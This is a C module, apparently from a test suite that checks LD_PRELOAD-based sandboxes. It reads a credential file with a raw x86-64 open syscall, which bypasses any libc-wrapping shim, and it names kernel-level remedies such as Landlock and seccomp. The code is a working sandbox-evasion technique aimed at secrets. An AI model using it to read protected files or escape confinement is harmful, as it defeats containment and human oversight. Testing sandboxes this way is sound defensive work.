// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, past any preloaded library.
 * Means: the instruction. What a shim wraps are functions of libc; a program can speak to the
 *        kernel without them. No shim sees this, however long its list.
 */
#include "attacks/preload-evasion/quarry.h"

#include <fcntl.h>

static int bare_open(const char *path)
{
	long result = -ENOSYS;

#ifdef __x86_64__
	enum { OPEN = 2 };

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(OPEN), "D"(path), "S"(O_RDONLY | O_CLOEXEC), "d"(0)
			 : "rcx", "r11", "memory");
#endif
	if (result >= 0)
		return (int)result;
	errno = (int)-result;
	return -1;
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return take(bare_open(quarry(b)), "the syscall instruction");
}

const struct attack attack = {
	.effect = "a file that a preloaded library should refuse is read",
	.means = "open(2) by the bare syscall instruction: no function of libc is called",
	.oracle = "secret:environ",
	.needs = NEED_X86_64,
	.quick = true,
	.id = "LPS-05",
	.attack_id = "T1106, CWE-693",
	.remedy = "a decision in the kernel: Landlock, seccomp",
	.refs = (const char *const[]){ "syscall(2), Architecture calling conventions", NULL },
	.run = run,
};
